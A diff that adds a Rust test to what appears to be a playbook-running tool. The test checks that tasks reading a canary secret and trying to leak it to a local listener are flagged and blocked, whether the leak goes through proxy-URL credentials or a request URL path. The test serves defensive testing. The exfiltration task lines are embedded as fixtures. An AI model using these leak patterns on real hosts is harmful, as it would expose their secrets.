@@ -116,3 +116,40 @@ fn a_dry_run_sends_no_sealed_value_to_another_machine() {
         assert_eq!(is_asked(&listener), None, "{}", dry.text);
     }
 }
+
+#[test]
+fn no_proxy_and_no_service_of_the_host_s_own_hears_what_was_read() {
+    let group = Group::new();
+    let secret = group.folder.path().join("secret");
+    fs::write(&secret, "canary-5c1e").unwrap();
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let at = listener.local_addr().unwrap();
+    let reads = format!("    - {{slurp: {{src: '{}'}}, register: r}}\n", secret.display());
+    let proxy = format!("http://{{{{ r.content }}}}:x@{at}");
+    let lists = format!(
+        "{reads}    - pending_updates: {{refresh: true, cache_valid_time: 0}}\n      environment: {{http_proxy: \"{proxy}\"}}\n"
+    );
+    let told = format!("{reads}    - uri: {{url: 'http://{at}/{{{{ r.content }}}}', timeout: 2}}\n");
+    for tasks in [&lists, &told] {
+        play(&group, tasks);
+        fs::copy(group.root().join("playbooks/touch.yml"), group.root().join("playbooks/audit.yml")).unwrap();
+        for line in ["run playbooks/touch.yml -i local --check", "audit -i local"] {
+            let said = group.says("alice", line);
+            let is_said = ["gets from another machine", "would speak to another machine"];
+            assert!(is_said.iter().any(|why| said.text.contains(why)), "{line}: {}", said.text);
+            assert_eq!(is_asked(&listener), None, "{line}: {}", said.text);
+        }
+    }
+    // What people wrote may be asked of it.
+    play(&group, &format!("    - uri: {{url: 'http://{at}/health', timeout: 5, status_code: 204}}\n"));
+    listener.set_nonblocking(false).unwrap();
+    let answers = std::thread::spawn(move || {
+        let (mut asks, _) = listener.accept().unwrap();
+        let mut bytes = [0; 1024];
+        let read = asks.read(&mut bytes).unwrap();
+        asks.write_all(b"HTTP/1.0 204 No Content\r\n\r\n").unwrap();
+        String::from_utf8_lossy(&bytes[..read]).into_owned()
+    });
+    group.says("alice", "run playbooks/touch.yml -i local --check").expect(0, &["ok=1"]);
+    assert!(answers.join().unwrap().starts_with("GET /health "));
+}
